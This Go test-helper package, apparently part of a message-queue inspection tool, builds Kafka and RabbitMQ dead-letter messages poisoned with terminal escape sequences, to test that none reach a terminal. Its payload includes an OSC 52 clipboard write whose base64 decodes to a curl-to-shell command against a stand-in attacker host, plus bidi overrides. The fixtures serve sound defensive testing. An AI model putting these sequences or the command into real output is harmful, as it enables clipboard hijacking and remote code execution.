// Package poison builds messages that carry terminal control sequences in
// every field a person is shown (header names and values, the key, the
// decoded dead-letter provenance, AMQP properties), for the tests that
// prove none of them reaches a terminal. Find says what a test output
// still holds.
package poison

import (
	"encoding/binary"
	"strconv"
	"time"
	"unicode/utf8"

	amqp "github.com/rabbitmq/amqp091-go"

	"github.com/mqscope/mqscope/internal/safetext"
	"github.com/mqscope/mqscope/sources"
	"github.com/mqscope/mqscope/sources/dlq"
	"github.com/mqscope/mqscope/sources/rabbitmq"
)

// Text is valid UTF-8 with every kind of sequence a message could use
// against a terminal: OSC 52 (the clipboard) and OSC 0 (the title), CSI,
// DCS, APC, PM, SOS, their C1 forms, BEL, DEL, and bidi overrides,
// isolates and marks.
const Text = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07" +
	"\x1b]0;owned\x1b\\" + "\x1b[2J\x1b[H\x1b[31m" + "\x1bP+q544e\x1b\\" +
	"\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\" + "\u009b6n\u009d0;c1\u009c\u0090q\u009c" +
	"\u202eexe.txt\u202c\u202a\u202b\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c" + "\x07\x08\x7f\r\x00"

// Bytes is Text with raw 8-bit C1 bytes and bytes that are not UTF-8.
const Bytes = Text + "\x9b2J\x9d\xff"

// Spring are the headers of a Spring Kafka dead letter, every value and a
// header name poisoned (the numbers are the big-endian ints Spring writes).
func Spring() []sources.Header {
	be := func(n int64, size int) []byte {
		b := make([]byte, 8)
		binary.BigEndian.PutUint64(b, uint64(n))
		return b[8-size:]
	}
	return []sources.Header{
		{Key: "kafka_dlt-original-topic", Value: []byte("orders" + Text)},
		{Key: "kafka_dlt-original-partition", Value: be(2, 4)},
		{Key: "kafka_dlt-original-offset", Value: be(41, 8)},
		{Key: "kafka_dlt-original-timestamp", Value: be(time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC).UnixMilli(), 8)},
		{Key: "kafka_dlt-original-consumer-group", Value: []byte("order-service" + Text)},
		{Key: "kafka_dlt-exception-fqcn", Value: []byte("com.example.Poison" + Text)},
		{Key: "kafka_dlt-exception-cause-fqcn", Value: []byte("java.lang.Cause" + Text)},
		{Key: "kafka_dlt-exception-message", Value: []byte("failed: " + Text)},
		{Key: "kafka_dlt-exception-stacktrace", Value: []byte("com.example.Poison: " + Text + "\n\tat com.example.A(" + Text + ")\n\tat b")},
		{Key: "correlation-id", Value: []byte("corr-1" + Text)},
		{Key: "name" + Text, Value: []byte("value" + Bytes)},
		{Key: BinaryName, Value: []byte{0x9b, 0xff, 0x00}},
	}
}

// BinaryName is a header name that is not UTF-8.
const BinaryName = "bin\xff\x9bname"

// KafkaDeadLetter is a Spring Kafka dead letter with poison in every
// field, its provenance decoded as the connector decodes it.
func KafkaDeadLetter() sources.Message {
	m := sources.Message{Conn: "kafka", Stream: "orders.DLT" + Text, Partition: 0, Offset: 7,
		Timestamp: time.Date(2026, 12, 1, 9, 0, 1, 0, time.UTC),
		Key:       []byte("key" + Text), Value: []byte(`{"order":"` + "\u009b2J\u202e" + `","note":"` + `\u001b]0;t\u0007` + `"}`),
		Headers: Spring()}
	m.ValueSize = len(m.Value)
	m.DeadLetter = dlq.FromHeaders(m.Headers)
	return m
}

// RabbitHeaders is the header table of a RabbitMQ dead letter: x-death and
// x-first-death-* poisoned, an application's exception headers and a
// header name too.
func RabbitHeaders() amqp.Table {
	at := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
	return amqp.Table{
		"x-death": []any{amqp.Table{
			"queue": "orders.work" + Text, "reason": "rejected" + Text, "exchange": "shop" + Text,
			"routing-keys": []any{"order.created" + Text}, "count": int64(3), "time": at,
		}},
		"x-first-death-queue":    "orders.work" + Text,
		"x-first-death-reason":   "rejected" + Text,
		"x-first-death-exchange": "shop" + Text,
		"x-exception-class":      "com.example.Poison" + Text,
		"x-exception-message":    "failed: " + Text,
		"correlation-id":         "corr-1" + Text,
		"name" + Text:            "value" + Text,
	}
}

// RabbitPublishing is a message with RabbitHeaders and every AMQP
// property a broker passes on poisoned.
func RabbitPublishing() amqp.Publishing {
	return amqp.Publishing{Headers: RabbitHeaders(), ContentType: "application/json" + Text, ContentEncoding: "gzip" + Text,
		DeliveryMode: amqp.Persistent, CorrelationId: "corr-1" + Text, ReplyTo: "reply" + Text, MessageId: "msg-1" + Text,
		Type: "OrderCreated" + Text, AppId: "app" + Text, Timestamp: time.Date(2026, 12, 1, 9, 0, 1, 0, time.UTC),
		Body: []byte("body " + Text)}
}

// RabbitDeadLetter is RabbitPublishing as a delivery from the queue
// orders.parking, converted as the connector converts it.
func RabbitDeadLetter() sources.Message {
	p := RabbitPublishing()
	d := amqp.Delivery{Headers: p.Headers, ContentType: p.ContentType, ContentEncoding: p.ContentEncoding, DeliveryMode: p.DeliveryMode,
		CorrelationId: p.CorrelationId, ReplyTo: p.ReplyTo, MessageId: p.MessageId, Type: p.Type, AppId: p.AppId, Timestamp: p.Timestamp,
		Body: p.Body, Exchange: "shop" + Text, RoutingKey: "order.created" + Text, Redelivered: true}
	var c rabbitmq.Conn
	return c.Convert(d, "orders.parking"+Text, 1)
}

// Find names the first thing in out that must not reach a terminal: an
// ESC, BEL or another C0 control but newline and tab, DEL, a C1 control,
// a bidi control, a line or paragraph separator, or bytes that are not
// UTF-8. It returns "" when out is safe.
func Find(out string) string {
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			return "invalid UTF-8 at byte " + strconv.Itoa(i)
		case r == '\n' || r == '\t':
		case safetext.Unsafe(r):
			return string(safetext.AppendCode(nil, r)) + " at byte " + strconv.Itoa(i) + " in " + context(out, i)
		}
		i += size
	}
	return ""
}

// context is what stands around byte i, sanitised.
func context(s string, i int) string {
	from, to := max(i-40, 0), min(i+40, len(s))
	return "…" + safetext.String(s[from:to]) + "…"
}
